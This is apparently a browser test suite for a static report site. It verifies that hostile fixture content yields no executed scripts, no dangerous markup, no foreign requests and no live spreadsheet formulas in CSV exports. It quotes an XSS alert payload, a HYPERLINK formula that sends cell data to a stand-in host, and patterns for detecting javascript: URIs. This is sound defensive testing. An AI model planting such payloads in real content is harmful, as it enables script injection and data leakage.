/**
 * Guard rails in a real browser. A site built from hostile content
 * (tests/fixtures/hostile/: 25 XSS vectors in bodies, more in front-matter) must
 * run no script from content and keep no dangerous markup; every page of the real
 * site must load nothing from another origin and log no error (a CSP violation
 * would).
 */
import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../helpers/browser.ts';
import { buildDir, buildSite } from '../helpers/build.ts';
import { DIST, requireDist } from '../helpers/dist.ts';
import { serveStatic, type StaticServer } from '../helpers/serve.ts';

let hostileDir: string;
let hostile: StaticServer;
let real: StaticServer;
let browser: Browser;

const htmlPages = (dir: string) =>
  (readdirSync(dir, { recursive: true }) as string[]).filter((f) => f.endsWith('.html')).map((f) => f.split('\\').join('/'));

beforeAll(async () => {
  requireDist();
  hostileDir = buildDir('hostile-');
  const build = buildSite({ NIANBAO_CONTENT: 'tests/fixtures/hostile/content', NIANBAO_OUT: hostileDir });
  if (build.status !== 0) throw new Error(`hostile build failed:\n${build.stdout}\n${build.stderr}`);
  hostile = await serveStatic(hostileDir);
  real = await serveStatic(DIST);
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await hostile?.close();
  await real?.close();
  if (hostileDir) rmSync(hostileDir, { recursive: true, force: true });
});

interface Visit {
  dialogs: string[];
  errors: string[];
  foreign: string[];
}

/** Load a page, interact a little (hover, focus, toggle), and record what happened. */
async function visit(page: Page, origin: string, url: string): Promise<Visit> {
  const seen: Visit = { dialogs: [], errors: [], foreign: [] };
  const onDialog = (d: import('playwright-core').Dialog) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  };
  const onConsole = (m: import('playwright-core').ConsoleMessage) => m.type() === 'error' && seen.errors.push(m.text());
  const onError = (e: Error) => seen.errors.push(e.message);
  const onRequest = (r: import('playwright-core').Request) => !r.url().startsWith(origin) && !r.url().startsWith('data:') && seen.foreign.push(r.url());
  page.on('dialog', onDialog);
  page.on('console', onConsole);
  page.on('pageerror', onError);
  page.on('request', onRequest);
  await page.goto(url, { waitUntil: 'load' });
  await page.evaluate(() => {
    for (const el of document.querySelectorAll('b, p, details, div')) {
      el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      el.dispatchEvent(new MouseEvent('click', { bubbles: true }));
    }
  });
  // Let what the events queued run (a frame, then the task queue), and any request it started finish,
  // instead of sleeping a fixed time that a slow machine could outrun.
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0))));
  await page.waitForLoadState('networkidle');
  page.off('dialog', onDialog);
  page.off('console', onConsole);
  page.off('pageerror', onError);
  page.off('request', onRequest);
  return seen;
}

/** Dangerous markup left in the live DOM. */
const dangerousMarkup = (page: Page) =>
  page.evaluate(() => {
    const found: string[] = [];
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) {
        const value = el.getAttribute(attr) ?? '';
        if (/^on/i.test(attr)) found.push(`${el.tagName} ${attr}`);
        if (/^(href|src|action|formaction|data|xlink:href)$/i.test(attr) && /^\s*(javascript|data|vbscript):/i.test(value.replace(/[\u0000-\u0020]/g, ''))) found.push(`${el.tagName} ${attr}=${value}`);
        if (attr === 'style') found.push(`${el.tagName} style`);
      }
    }
    for (const el of document.querySelectorAll('iframe, object, embed, base, form:not(.site-search):not(#search-form):not(#compare-form), meta[http-equiv="refresh"], style:not(head > style[data-print-footer]), head > style[data-print-footer] ~ style[data-print-footer], body svg script, math, template')) {
      found.push(el.outerHTML.slice(0, 80));
    }
    for (const s of document.querySelectorAll('script')) {
      if (!s.src || !new URL(s.src).pathname.startsWith('/_astro/')) found.push(`script ${s.outerHTML.slice(0, 80)}`);
    }
    return found;
  });

describe('hostile content', () => {
  it('builds into pages where no script from content runs and no dangerous markup survives', async () => {
    const pages = htmlPages(hostileDir);
    expect(pages.length).toBeGreaterThan(10);
    const page = await browser.newPage();
    const origin = new URL(hostile.url).origin;
    for (const file of pages) {
      const seen = await visit(page, origin, `${hostile.url}${file.replace(/index\.html$/, '')}`);
      expect(seen.dialogs, `${file}: dialogs`).toEqual([]);
      expect(seen.errors, `${file}: console`).toEqual([]);
      expect(seen.foreign, `${file}: requests`).toEqual([]);
      expect(await dangerousMarkup(page), file).toEqual([]);
    }
    await page.close();
  });

  it('shows the text of the hostile strings as text', async () => {
    const page = await browser.newPage();
    await page.goto(`${hostile.url}reports/370303-jiaoyuju/2014/`);
    expect(await page.textContent('h1')).toBe("张店区教育局2014年<script>alert('title')</script>年度报告");
    expect(await page.textContent('body')).toContain('第25段');
    expect(await page.title()).toContain("<script>alert('title')</script>");
    await page.close();
  });
});

describe('open data built from hostile content', () => {
  it('has no live spreadsheet formula in any CSV: the formula title is written with a leading apostrophe', () => {
    const csvs = (readdirSync(hostileDir, { recursive: true }) as string[]).filter((f) => f.endsWith('.csv'));
    expect(csvs).toEqual(expect.arrayContaining(['data/reports.csv', 'data/reports/2015.csv']));
    for (const file of csvs) {
      const rows = parse(readFileSync(join(hostileDir, file), 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
      for (const row of rows) for (const cell of row) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    const reports = parse(readFileSync(join(hostileDir, 'data/reports.csv'), 'utf8').slice(1), { columns: true }) as Record<string, string>[];
    expect(reports.find((r) => r['year'] === '2015')!['title']).toBe(`'=HYPERLINK("http://x.example/"&A1,"点击查看")`);
  });
});

describe('the real site', () => {
  it('loads nothing from another origin and logs no error on any page', async () => {
    const page = await browser.newPage();
    const origin = new URL(real.url).origin;
    const pages = htmlPages(DIST).filter((f) => f !== '404.html');
    for (const file of pages) {
      const seen = await visit(page, origin, `${real.url}${file.replace(/index\.html$/, '')}`);
      expect(seen.foreign, `${file}: requests`).toEqual([]);
      expect(seen.errors, `${file}: console`).toEqual([]);
      expect(seen.dialogs, file).toEqual([]);
    }
    await page.close();
  });
});
